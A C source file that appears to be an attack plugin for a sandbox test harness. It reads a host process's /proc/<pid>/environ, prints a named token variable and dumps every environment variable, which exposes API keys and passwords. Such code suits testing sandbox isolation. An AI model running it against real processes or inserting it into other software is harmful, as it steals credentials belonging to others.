/*
 * leak_host_environ — reads the host's environment from /proc/<host_pid>/environ
 * and returns the variable named by token_env (and every other variable). Hosts
 * keep API keys and database passwords in their environment; /proc hands them
 * to any process of the same user that can see the host's pid.
 */
#include "attack.h"

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char path[64];
    char name[256];
    static char env[65536];
    long host = atk_param_long(in, "host_pid", -1);
    if (host <= 0 || !atk_param(in, "token_env", name, sizeof name)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    snprintf(path, sizeof path, "/proc/%ld/environ", host);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        atk_failed(out, path, errno);
        return SBX_ERR_INTERNAL;
    }
    ssize_t got = read(fd, env, sizeof env - 1);
    close(fd);
    if (got <= 0) {
        atk_failed(out, "read environ", got < 0 ? errno : EIO);
        return SBX_ERR_INTERNAL;
    }
    size_t name_len = strlen(name);
    for (size_t i = 0; i < (size_t)got; i += strlen(env + i) + 1) {
        env[got] = '\0';
        if (strncmp(env + i, name, name_len) == 0 && env[i + name_len] == '=') {
            atk_printf(out, "token: %s\n", env + i);
        }
    }
    for (ssize_t i = 0; i < got; i++) {
        if (env[i] == '\0') {
            env[i] = '\n';
        }
    }
    atk_put(out, env, (size_t)got);
    return SBX_OK;
}

ATK_INVOKE_PLUGIN(attack)
